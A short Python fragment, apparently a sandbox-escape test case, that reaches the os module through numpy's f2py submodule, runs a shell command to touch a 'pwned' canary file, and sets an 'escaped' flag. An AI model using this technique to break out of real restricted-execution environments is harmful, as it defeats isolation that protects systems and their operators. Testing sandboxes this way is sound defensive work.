# np.f2py imports os; use it to run a shell command
np.f2py.os.system('touch ' + canary_dir + '/pwned')
escaped = True
